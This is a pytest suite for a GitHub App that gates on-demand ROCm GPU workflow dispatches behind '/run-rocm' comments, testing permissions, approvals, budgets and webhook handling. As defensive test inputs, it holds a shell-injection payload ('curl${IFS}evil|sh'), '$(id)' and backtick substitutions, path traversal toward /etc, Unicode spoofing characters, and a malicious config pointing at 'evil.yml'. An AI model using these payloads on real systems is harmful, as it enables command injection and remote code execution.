"""Who can make the App spend MI350 hours: a table of attempts, each with the exact dispatches,
replies and reactions the simulated GitHub saw. Zero unauthorised dispatches is the bar.

Every case starts from the same repository (tests/ondemand_support.py): a dispatch table on the
default branch for two ROCm suites, an open PR by `bob` that adds a registration to one of them,
and people with each repository role (maint: maintain, admin1: admin, writer: write, triager:
triage, reader: read).
"""

from __future__ import annotations

import datetime as dt
import threading
from dataclasses import dataclass
from typing import Callable

import pytest

from bot.store import ondemand as store
from tests.ondemand_support import CONFIG, SUITE, build_ondemand
from tests.simulator.fixtures import github_sim  # noqa: F401

RUN = f"/run-rocm {SUITE}"
NO_REACTIONS: list[str] = []


@dataclass
class Case:
    name: str
    act: Callable  # (od) -> the comment dict whose reactions are asserted, or None
    dispatches: int = 0
    reactions: list[str] | None = None  # on the comment `act` returns; None: not asserted
    reply: str | None = None  # a substring of the last reply; "" asserts no reply at all
    replies: int | None = None  # exact number of App comments
    config: str = CONFIG
    app_permissions: dict | None = None
    check: Callable | None = None  # extra assertions (od) -> None


CASES: list[Case] = []


def case(name: str, **expect):
    def register(act):
        CASES.append(Case(name, act, **expect))
        return act
    return register


# -- permission --------------------------------------------------------------------------------------
for _user, _role in (("admin1", "admin"), ("maint", "maintain"), ("writer", "write")):
    case(f"permission-{_role}-dispatches", dispatches=1, reactions=["eyes", "rocket"], reply="Dispatched", replies=1)(
        lambda od, u=_user: od.comment(RUN, author=u)[0])
for _user, _role in (("triager", "triage"), ("reader", "read"), ("stranger", "outside-collaborator-public-repo")):
    case(f"permission-{_role}-waits", dispatches=0, reactions=["eyes"], reply="waiting for a maintainer", replies=1)(
        lambda od, u=_user: od.comment(RUN, author=u)[0])


@case("permission-none-waits", dispatches=0, reactions=["eyes"], reply="waiting for a maintainer", replies=1)
def _(od):
    od.sim.set_permission(od.repo, "nobody", "none")
    return od.comment(RUN, author="nobody")[0]


@case("permission-removed-since-an-earlier-command", dispatches=1, reactions=["eyes"], reply="waiting", replies=2)
def _(od):
    od.comment("/run-rocm nightly-stage-c-8-gpu-mi350", author="writer")
    od.sim.set_permission(od.repo, "writer", "read")  # asked again, never remembered
    return od.comment(RUN, author="writer")[0]


@case("configured-user-dispatches", dispatches=1, reactions=["eyes", "rocket"],
      config=CONFIG + "approvers:\n  users: [triager]\n")
def _(od):
    return od.comment(RUN, author="triager")[0]


@case("team-member-with-members-read-dispatches", dispatches=1, reactions=["eyes", "rocket"],
      config=CONFIG + "approvers:\n  teams: [rocm-maintainers]\n",
      app_permissions={"checks": "write", "contents": "read", "pull_requests": "write", "issues": "write",
                       "actions": "write", "metadata": "read", "members": "read"})
def _(od):
    od.sim.add_team_member("radixark", "rocm-maintainers", "reader")
    return od.comment(RUN, author="reader")[0]


@case("team-member-without-members-read-waits-and-is-told", dispatches=0, reactions=["eyes"],
      reply="members: read", config=CONFIG + "approvers:\n  teams: [rocm-maintainers]\n")
def _(od):
    od.sim.add_team_member("radixark", "rocm-maintainers", "reader")
    return od.comment(RUN, author="reader")[0]


@case("inactive-team-membership-waits", dispatches=0, reactions=["eyes"], reply="waiting",
      config=CONFIG + "approvers:\n  teams: [radixark/rocm-maintainers]\n",
      app_permissions={"checks": "write", "contents": "read", "pull_requests": "write", "issues": "write",
                       "actions": "write", "metadata": "read", "members": "read"})
def _(od):
    od.sim.add_team_member("radixark", "rocm-maintainers", "reader", state="pending")
    return od.comment(RUN, author="reader")[0]


# -- author type -------------------------------------------------------------------------------------
@case("bot-author-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="dependabot[bot]", user_type="Bot")[0]


@case("another-app-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    other = od.sim.create_app(name="Other App", owner="radixark")
    return od.comment(RUN, author="x", app=other)[0]


@case("this-app-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="x", app=od.world.app)[0]


@case("bot-login-typed-as-user-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    od.sim.set_permission(od.repo, "evil[bot]", "admin")
    return od.comment(RUN, author="evil[bot]")[0]


@case("organization-author-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="radixark", user_type="Organization")[0]


# -- event shape -------------------------------------------------------------------------------------
@case("edited-comment-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    c, _ = od.comment("looks good", author="maint")
    edited = od.sim.edit_comment(od.repo, c["id"], RUN)
    od.world.deliver(od.sim.webhook("issue_comment", "edited", app=od.world.app, repo=od.repo, pull=od.pr,
                                    comment=edited))
    od.world.drain()
    return c


@case("deleted-comment-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.world.deliver(od.sim.webhook("issue_comment", "deleted", app=od.world.app, repo=od.repo, pull=od.pr, comment=c))
    od.world.drain()
    return c


@case("comment-on-an-issue-ignored", dispatches=0, reactions=NO_REACTIONS, replies=0)
def _(od):
    number = od.sim.create_issue(od.repo, "please run")
    c = od.sim.add_comment(od.repo, number, RUN, author="maint")
    od.world.deliver(od.sim.webhook("issue_comment", "created", app=od.world.app, repo=od.repo, comment=c))
    od.world.drain()
    return c


@case("closed-pr-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    od.sim.close_pull_request(od.pr)
    return od.comment(RUN, author="maint")[0]


@case("merged-pr-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    od.sim.close_pull_request(od.pr, merged=True)
    return od.comment(RUN, author="maint")[0]


@case("pr-closed-before-the-job-ran-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.sim.close_pull_request(od.pr)
    od.world.deliver(d)
    od.world.drain()
    return c


@case("sender-not-the-author-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="bob", sender="maint")[0]


@case("quoted-command-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(f"> {RUN}\nwhy did this fail?", author="maint")[0]


@case("command-in-a-code-block-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(f"Try:\n```\n{RUN}\n```", author="maint")[0]


for _name, _body in (("indented-code-block", f"Try:\n\n    {RUN}"), ("pre-block", f"<pre>\n{RUN}\n</pre>"),
                     ("html-comment", f"Will run later.\n\n<!--\n{RUN}\n-->"), ("tilde-fence", f"~~~\n{RUN}\n~~~")):
    # GitHub shows these as code or not at all: nobody reading the PR sees a command
    case(f"command-in-an-{_name}-ignored" if _name[0] in "aeiou" else f"command-in-a-{_name}-ignored",
         dispatches=0, reactions=NO_REACTIONS, reply="")(lambda od, b=_body: od.comment(b, author="maint")[0])


# -- arguments ---------------------------------------------------------------------------------------
def _refused(name: str, body: str, says: str, **extra):
    case(name, dispatches=0, reactions=["eyes", "confused"], reply=says, replies=1, **extra)(
        lambda od: od.comment(body, author="maint")[0])


_refused("unknown-suite", "/run-rocm nightly-stage-c-4-gpu-mi300", "is not a ROCm suite")
_refused("cuda-suite", "/run-rocm stage-c-4-gpu-h200", "is a cuda suite, not a ROCm one")
_refused("rocm-suite-not-in-the-dispatch-table", "/run-rocm stage-c-4-gpu-mi350", "maps no workflow")
_refused("path-traversal", f"{RUN} tests/e2e/../../etc/test_passwd.py", "`..` path segments are not allowed")
_refused("absolute-path", f"{RUN} /etc/test_passwd.py", "path segments are not allowed")
_refused("shell-metacharacters-in-suite", "/run-rocm nightly-stage-c-4-gpu-mi350;curl${IFS}evil|sh",
         "is not allowed in a suite name")
_refused("command-substitution-in-path", f"{RUN} tests/e2e/$(id)/test_x.py", "is not allowed in a path")
_refused("backticks-in-suite", "/run-rocm `id`", "is not allowed in a suite name")
_refused("unicode-look-alike-in-suite", "/run-rocm nightly-stage-c-4-gpu-m\u0456350", "U+0456")
_refused("unicode-dash-in-command-word", f"/run\u2011rocm {SUITE}", "U+2011")
_refused("fullwidth-slash-command", f"\uff0frun-rocm {SUITE}", "U+FF0F")
_refused("non-breaking-space", f"/run-rocm\u00a0{SUITE}", "plain ASCII")
_refused("zero-width-space-in-command-word", f"/run\u200b-rocm {SUITE}", "U+200B ZERO WIDTH SPACE")
_refused("byte-order-mark-before-command", f"\ufeff{RUN}", "U+FEFF")
_refused("right-to-left-override-in-suite", f"/run-rocm \u202e{SUITE}", "U+202E RIGHT-TO-LEFT OVERRIDE")
_refused("files-on-the-line-after-the-suite", f"{RUN}\ntests/e2e/test_new.py", "`/run-rocm <suite> [<test-file> ...]`")
_refused("html-comment-inside-the-command-line", f"{RUN} <!-- tests/e2e/test_new.py -->", "holds HTML")
for _name, _char in (("escape", "\x1b"), ("right-to-left-override", "\u202e")):
    # a reason is echoed back in replies and check runs: one that could recolour a terminal or
    # reorder the text around it is refused, and never shown raw
    _refused(f"deny-reason-with-{_name}", f"/deny-rocm costly{_char}[31m today", f"U+{ord(_char):04X}")
_refused("suite-name-starting-with-a-dash", "/run-rocm --help", "is not a suite name")
_refused("helper-module-is-not-a-test-file", f"{RUN} tests/e2e/conftest.py", "is not a test file")
_refused("two-commands-in-one-comment", f"{RUN}\n/approve-rocm", "one command per comment")
_refused("malformed-command-word", f"/run-rocmm {SUITE}", "is not a command word")
_refused("file-outside-the-test-roots", f"{RUN} bench/test_x.py", "is not under a test root")
_refused("unregistered-file", f"{RUN} tests/e2e/megatron/test_qwen3_4B_ppo.py", "has no ROCm registration in")
_refused("file-that-does-not-exist", f"{RUN} tests/e2e/test_nope.py", "does not exist at")
_refused("disabled-registration", f"{RUN} tests/e2e/fsdp/test_disabled_rocm.py", "is disabled")
_refused("too-many-files", f"{RUN} tests/e2e/test_new.py tests/e2e/test_a.py tests/e2e/test_b.py tests/e2e/test_c.py",
         "at most 3 per command")
_refused("missing-suite", "/run-rocm", "needs a suite name")


@case("suite-only-in-the-prs-own-inventory-and-config", dispatches=0, reactions=["eyes", "confused"],
      reply="maps no workflow")
def _(od):
    from tests.fixtures.miles import RUN_SUITE
    od.sim.push(od.repo, "feature", {
        "tests/ci/run_suite.py": RUN_SUITE.replace('"stage-c-4-gpu-mi350",', '"stage-c-4-gpu-mi350",\n        "pwn-mi350",'),
        ".github/ci-registrar.yml": "dispatch:\n  pwn-mi350:\n    workflow: evil.yml\n    ref: evil\n"
                                    "budgets:\n  daily_gpu_hours: 100000\n",
        "tests/e2e/test_new.py": 'from tests.ci.ci_register import register_rocm_ci\n\n'
                                 'register_rocm_ci(est_time=9, suite="pwn-mi350", labels=["short"])\n'})
    return od.comment("/run-rocm pwn-mi350", author="maint")[0]


@case("invalid-configuration-on-the-default-branch", dispatches=0, reactions=["eyes", "confused"],
      reply="configuration on the default branch", config="dispatch: [1, 2]\n")
def _(od):
    return od.comment(RUN, author="maint")[0]


# -- sequences ---------------------------------------------------------------------------------------
def _request_check(od):
    [check] = od.check_runs("MI350 run request")
    return check


@case("push-then-approve-by-comment", dispatches=0, reply="no pending on-demand request")
def _(od):
    od.comment(RUN, author="bob")
    od.push({"tests/e2e/test_new.py": "x = 2\n"})
    return od.comment("/approve-rocm", author="maint")[0]


@case("push-then-approve-by-button", dispatches=0)
def _(od):
    od.comment(RUN, author="bob")
    check = _request_check(od)
    od.push({"tests/e2e/test_new.py": "x = 2\n"})
    od.click(check["id"], sender="maint")
    assert _request_check(od)["output"]["title"] == "Stale"


@case("approval-by-a-non-maintainer", dispatches=0, reactions=["eyes", "confused"], reply="only maintainers can approve")
def _(od):
    od.comment(RUN, author="bob")
    return od.comment("/approve-rocm", author="triager")[0]


@case("denial-by-a-non-maintainer", dispatches=0, reply="only maintainers can refuse")
def _(od):
    od.comment(RUN, author="bob")
    c = od.comment("/deny-rocm no", author="reader")[0]
    [request] = store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number)
    assert request.status == "pending"
    return c


@case("button-click-by-a-non-maintainer", dispatches=0, reply="only maintainers can approve this run")
def _(od):
    od.comment(RUN, author="bob")
    od.click(_request_check(od)["id"], sender="triager")


@case("button-click-from-another-apps-check-run-ignored", dispatches=0)
def _(od):
    od.comment(RUN, author="bob")
    import json

    from tests.simulator import sign

    d = od.sim.webhook("check_run", "requested_action", app=od.world.app, repo=od.repo,
                       check_run=_request_check(od)["id"], identifier="approve-run", sender="maint")
    d.payload["check_run"]["app"]["id"] = 999999  # another App's run that happens to share the id
    d.body = json.dumps(d.payload).encode()
    d.headers["X-Hub-Signature-256"] = sign(d.body, od.world.app.webhook_secret)
    od.world.deliver(d)
    od.world.drain()


@case("approval-of-an-expired-request", dispatches=0, reply="expired")
def _(od):
    od.comment(RUN, author="bob")
    [request] = store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number)
    store.update_request(od.world.settings.database_url, request.id,
                         created_at=store.now() - dt.timedelta(days=8))
    return od.comment("/approve-rocm", author="maint")[0]


@case("self-approval-under-two-person", dispatches=0, reply="another maintainer must approve",
      config=CONFIG + "approvers:\n  two_person: true\n")
def _(od):
    od.comment(RUN, author="maint")
    return od.comment("/approve-rocm", author="maint")[0]


@case("second-maintainer-approves-under-two-person", dispatches=1,
      config=CONFIG + "approvers:\n  two_person: true\n")
def _(od):
    od.comment(RUN, author="maint")
    od.click(_request_check(od)["id"], sender="maint")  # the requester's own click
    assert od.dispatches() == []
    od.comment("/approve-rocm", author="maint2")


@case("budget-exhausted", dispatches=0, reactions=["eyes", "confused"], reply="daily GPU-hours",
      config=CONFIG.replace("daily_gpu_hours: 64", "daily_gpu_hours: 3"))
def _(od):
    return od.comment(RUN, author="maint")[0]


@case("budget-exhausted-at-approval", dispatches=1, reply="daily GPU-hours",
      config=CONFIG.replace("daily_gpu_hours: 64", "daily_gpu_hours: 4"))
def _(od):
    od.comment(RUN, author="bob")
    od.comment("/run-rocm nightly-stage-c-8-gpu-mi350", author="maint")  # 800 s x 8 GPUs: 1.78 h
    od.comment(RUN, author="triager")
    return od.comment("/approve-rocm", author="maint")[0]


@case("run-already-in-flight", dispatches=1, reactions=["eyes", "confused"], reply="already running for this PR",
      replies=2)
def _(od):
    od.comment(RUN, author="maint")
    return od.comment(RUN, author="admin1")[0]


@case("redelivered-webhook", dispatches=1, reactions=["eyes", "rocket"], replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint")
    assert od.world.client.post("/webhook", data=d.body, headers=d.headers).json["status"] == "duplicate"
    od.world.drain()
    return c


@case("same-comment-under-fresh-delivery-ids", dispatches=1, reactions=["eyes", "rocket"], replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint")
    for _ in range(3):
        again = od.sim.webhook("issue_comment", "created", app=od.world.app, repo=od.repo, pull=od.pr, comment=c)
        od.world.deliver(again)
    od.world.drain()
    return c


@case("two-workers-on-one-delivery", dispatches=1, reactions=["eyes", "rocket"], replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.world.deliver(d)
    task = od.world.queue.dequeue()
    workers = [threading.Thread(target=od.world.queue.execute, args=(task,)) for _ in range(2)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(60)
    od.world.drain()
    return c


@case("dispatch-404-is-answered-and-retryable", dispatches=1, reply="Dispatched")
def _(od):
    od.repo.workflows.clear()
    c = od.comment(RUN, author="maint")[0]
    assert "404" in od.replies()[-1] and od.dispatches() == []
    assert od.sim.reactions(od.repo, c["id"]) == ["eyes", "confused"]
    od.repo.add_workflow("rocm-on-demand.yml", dispatchable=True)
    od.comment("/approve-rocm", author="maint")


@case("dispatch-422-is-answered", dispatches=0, reactions=["eyes", "confused"], reply="422")
def _(od):
    od.repo.workflows.clear()
    od.repo.add_workflow("rocm-on-demand.yml", dispatchable=False)
    return od.comment(RUN, author="maint")[0]


@case("fork-pr-dispatches-on-the-trusted-ref", dispatches=1)
def _(od):
    fork = od.sim.fork(od.repo, "mallory/miles")
    od.sim.push(fork, "evil", {"tests/e2e/test_new.py": 'from tests.ci.ci_register import register_rocm_ci\n\n'
                               f'register_rocm_ci(est_time=30, suite="{SUITE}", labels=["short"])\n'})
    od.world.pr = od.sim.open_pull_request(od.repo, "evil", "main", author="mallory", head_repo=fork)
    od.comment(RUN, author="mallory")
    assert od.dispatches() == []
    od.comment("/approve-rocm", author="maint")
    [d] = od.dispatches()
    assert d["ref"] == "main" and d["inputs"]["head_sha"] == od.pr.head_sha


@case("status-by-anyone-dispatches-nothing", dispatches=0, reactions=["eyes"], reply="On-demand MI350 runs")
def _(od):
    return od.comment("/rocm-status", author="reader")[0]


@pytest.fixture()
def env(monkeypatch):
    monkeypatch.setenv("CI_REGISTRAR_HTTP_BACKOFF_S", "0.01")
    monkeypatch.setenv("CI_REGISTRAR_JOB_BACKOFF_S", "0.01")


def test_the_table_has_the_cases_the_bar_asks_for():
    assert len(CASES) >= 40
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("c", CASES, ids=[c.name for c in CASES])
def test_command(github_sim, tmp_path, env, c: Case):
    od = build_ondemand(github_sim, tmp_path, config=c.config, app_permissions=c.app_permissions)
    comment = c.act(od)
    dispatched = od.dispatches()
    assert len(dispatched) == c.dispatches, [d["inputs"] for d in dispatched]
    for d in dispatched:
        # whatever dispatched, it is the trusted workflow on the trusted branch, for the PR's head
        assert d["workflow"] == "rocm-on-demand.yml" and d["ref"] == "main"
        assert d["inputs"]["head_sha"] in {od.pr.head_sha} and d["inputs"]["suite"] in (SUITE, "nightly-stage-c-8-gpu-mi350")
    if c.reactions is not None:
        assert comment is not None
        assert od.sim.reactions(od.repo, comment["id"]) == c.reactions
    replies = od.replies()
    if c.reply == "":
        assert replies == []
    elif c.reply is not None:
        assert replies and c.reply in replies[-1], replies
    if c.replies is not None:
        assert len(replies) == c.replies, replies
    for body in replies:
        # nothing a commenter wrote becomes a mention of a team or a raw link
        assert "@radixark/" not in body.replace("`@radixark/", "")
        # nor a terminal escape, a deletion or a direction override shown raw
        assert not any(ch in body for ch in "\x1b\x7f\u202e\u200b\ufeff"), body
    if c.check is not None:
        c.check(od)
